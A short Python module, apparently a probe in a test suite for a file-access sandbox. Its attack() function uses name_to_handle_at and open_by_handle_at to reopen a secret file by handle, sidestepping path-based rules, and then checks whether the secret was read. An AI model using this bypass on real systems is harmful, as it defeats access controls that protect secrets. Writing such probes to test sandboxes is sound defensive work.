"""Opens a file by its handle, which is a number and not a path: no rule about paths applies."""

import ctypes
import os

from kit import FACTS, is_secret, syscall

ROOT = True
HERE = -100


def attack() -> bool:
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 8 + 128)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", HERE, FACTS["secret"].encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(".", os.O_RDONLY)
    file = syscall("open_by_handle_at", folder, handle, os.O_RDONLY)
    return file >= 0 and is_secret(os.read(file, 100))
